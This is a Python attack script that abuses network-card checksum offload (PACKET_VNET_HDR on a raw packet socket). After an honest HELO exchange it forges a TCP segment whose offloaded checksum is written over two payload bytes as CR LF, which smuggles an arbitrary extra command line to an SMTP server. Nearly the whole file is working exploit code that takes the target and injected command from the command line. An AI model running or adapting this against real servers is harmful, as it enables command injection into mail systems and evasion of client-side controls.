"""A client that leaves its checksum to the network card, and says where the card is to write it.

One command as an honest client sends it; then one frame of our own whose checksum is to be written
over two octets of its text. They become CR LF, and what stands behind them a line of its own.
"""

import itertools
import socket
import string
import struct
import sys

ETH_P_IP, SOL_PACKET, PACKET_VNET_HDR, NEEDS_CSUM = 0x0800, 263, 15, 1


def folded(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def tcp_sum(source, destination, segment):
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination)
    return folded(pseudo + struct.pack("!HH", 6, len(segment)) + segment)


def frame(link, ends, numbers, command):
    """The frame, and where its checksum is to be written: what is there becomes CR LF."""
    (source, port), (destination, to) = ends
    head = b"NOOP x"
    # The sum from there on, complemented, is what is written: four octets of text make it CR LF.
    octets = string.digits.encode() + string.ascii_letters.encode()
    texts = (b"N1" + command + b" " + bytes(filler) + b"\r\n"
             for filler in itertools.product(octets, repeat=4))
    text = head + next(text for text in texts if ~folded(text) & 0xFFFF == 0x0D0A)
    final = head + b"\r\n" + text[len(head) + 2:]
    header = struct.pack("!HHLLBBHHH", port, to, *numbers, 0x50, 0x18, 64000, 0, 0)
    # The field is right for what the server gets to see.
    checksum = ~tcp_sum(source, destination, header + final) & 0xFFFF
    header = header[:16] + struct.pack("!H", checksum) + header[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(header) + len(text), 7, 0x4000, 64, 6, 0,
                     socket.inet_aton(source), socket.inet_aton(destination))
    ip = ip[:10] + struct.pack("!H", ~folded(ip) & 0xFFFF) + ip[12:]
    place = 14 + len(ip) + len(header) + len(head)
    vnet = struct.pack("=BBHHHH", NEEDS_CSUM, 0, 0, 0, place, 0)
    return vnet + link + ip + header + text


def said(wire, ends, skipped):
    """The next text of the server on the wire, and the numbers that go with an answer to it."""
    ours, theirs = ends
    while True:
        packet = wire.recv(65535)[skipped + 14:]
        size = (packet[0] & 15) * 4
        if packet[9] != 6 or struct.unpack_from("!HH", packet, size) != (theirs[1], ours[1]):
            continue
        seq, ack, offset = struct.unpack_from("!LLB", packet, size + 4)
        length = struct.unpack_from("!H", packet, 2)[0]
        text = packet[size + (offset >> 4) * 4:length]
        if text:
            return text, (ack, (seq + len(text)) & 0xFFFFFFFF)


def main(device, gateway, server, command):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    wire.bind((device, ETH_P_IP))
    wire.settimeout(3)
    client = socket.create_connection((server, 25), timeout=10)
    ends = client.getsockname(), client.getpeername()
    text, _ = said(wire, ends, 0)
    while not text.startswith(b"220"):
        text, _ = said(wire, ends, 0)
    client.sendall(b"HELO mail.domain1.com\r\n")
    while not text.startswith(b"250"):
        text, numbers = said(wire, ends, 0)
    wire.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    ether = bytes.fromhex(gateway.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
    wire.send(frame(ether, ends, numbers, command.encode()))
    # Our own TCP has sent nothing that this answers, and takes none of it.
    texts = []
    try:
        while len(b"".join(texts).splitlines()) < 2:
            text, _ = said(wire, ends, 10)
            texts += [text] if text not in texts else []
    except TimeoutError:
        pass
    print(b"".join(texts).decode(errors="replace"))


main(*sys.argv[1:])
